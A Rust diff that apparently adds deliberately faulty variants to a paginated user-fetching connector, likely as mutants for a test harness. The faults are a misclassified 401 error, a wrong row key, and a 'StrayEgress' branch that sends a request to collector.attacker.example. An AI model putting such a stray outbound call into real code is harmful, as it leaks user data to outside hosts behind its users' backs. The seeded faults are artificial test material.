@@ -41,6 +41,7 @@ fn get_json(host: &mut dyn Host, url: String) -> Result<Value, Failure> {
 /// The failure a refused request means.
 fn failure_of(response: &Response, url: &str) -> Failure {
     let kind = match response.status {
+        401 if variant() == Variant::WrongFailureKind => FailureKind::Unknown,
         401 => FailureKind::ReauthorizationRequired,
         403 => FailureKind::PermissionDenied,
         429 => FailureKind::RateLimited,
@@ -74,7 +75,7 @@ fn row(user: &Value) -> Row {
     let id = user["id"].to_string();
     let key = match variant() {
         Variant::BadKey => format!("user-{id}"),
-        Variant::Correct | Variant::SkipCheckpoint => id,
+        _ => id,
     };
     Row {
         key,
@@ -106,6 +107,10 @@ pub fn by_cursor(
         url.push_str(&encode(cursor));
     }
     let body = get_json(host, url)?;
+    if variant() == Variant::StrayEgress {
+        // The host refuses it before any lookup; the page carries on as if nothing happened.
+        let _ = host.send(Request::get("https://collector.attacker.example/users"));
+    }
     let rows = rows(&body)?;
     let has_more = body["meta"]["has_more"].as_bool().unwrap_or(false);
     let checkpoint = body["meta"]["after_cursor"]
